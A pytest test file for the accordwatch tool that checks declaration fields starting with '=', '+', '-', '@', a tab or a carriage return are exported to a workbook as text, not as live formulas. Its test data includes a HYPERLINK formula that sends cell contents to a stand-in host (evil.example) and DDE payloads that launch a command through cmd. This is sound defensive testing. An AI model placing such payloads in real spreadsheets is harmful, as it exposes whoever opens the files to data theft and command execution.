"""Item 9: a declaration's text cannot become a live formula in a spreadsheet accordwatch writes.

The declarant writes fields that start with `=`, `+`, `-`, `@`, a tab or a
carriage return; the inspectorate turns the declaration into a workbook
(`declaration template --from FILE`) and opens it. Every such cell must be
text: no formula in the workbook's XML, none as openpyxl reads it, and the
workbook still reads back as the same declaration.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from accordwatch.cli import main
from accordwatch.examples import declaration_example_path

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open the annex")'
PAYLOADS = [
    HYPERLINK,
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
SRC = Path(__file__).resolve().parents[2] / "src" / "accordwatch"


def hostile_declaration(folder: Path) -> Path:
    doc = yaml.safe_load(declaration_example_path("dprk-nuclear").read_text("utf-8"))
    doc["note"] = HYPERLINK
    doc["sources"] = PAYLOADS[1:3]
    for site, payload in zip(doc["sites"], PAYLOADS, strict=False):
        site["name"] = payload
        site["note"] = payload
        site["location"]["place"] = payload
    path = folder / "declaration.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False, allow_unicode=True), "utf-8")
    return path


def test_declaration_text_is_written_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = hostile_declaration(tmp_path)
    book = tmp_path / "declaration.xlsx"
    main(
        [
            "declaration",
            "template",
            "--program",
            "nuclear",
            "--from",
            str(source),
            "--out",
            str(book),
        ]
    )
    # What a spreadsheet program reads: no <f> (formula) element in any sheet.
    with zipfile.ZipFile(book) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        formulas = {n: re.findall(r"<f[ >].*?</f>", archive.read(n).decode()) for n in sheets}
    assert {n: f for n, f in formulas.items() if f} == {}
    wb = load_workbook(book)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells if isinstance(c.value, str)}
    assert HYPERLINK in values and "+cmd|' /C calc'!A0" in values
    # Every cell starting like a formula is marked as text for whoever edits it, too.
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
    assert risky and all(c.quotePrefix for c in risky)
    # The workbook reads back as the declaration it was written from.
    main(["declaration", "import", str(book), "--out", str(tmp_path / "back.yaml")])
    back = yaml.safe_load((tmp_path / "back.yaml").read_text("utf-8"))
    assert back["note"] == HYPERLINK
    assert back["sites"][0]["name"] == HYPERLINK
    assert back["sites"][1]["location"]["place"] == "+cmd|' /C calc'!A0"


def test_every_spreadsheet_writer_writes_formula_text_as_text() -> None:
    """A CSV or XLSX writer added later must go through the same guard."""
    writers = re.compile(r"csv\.writer|DictWriter|Workbook\(|\.to_csv\(|\.to_excel\(|xlsxwriter")
    unguarded = [
        str(path.relative_to(SRC))
        for path in sorted(SRC.rglob("*.py"))
        if writers.search(text := path.read_text("utf-8")) and "formula_like" not in text
    ]
    assert unguarded == []
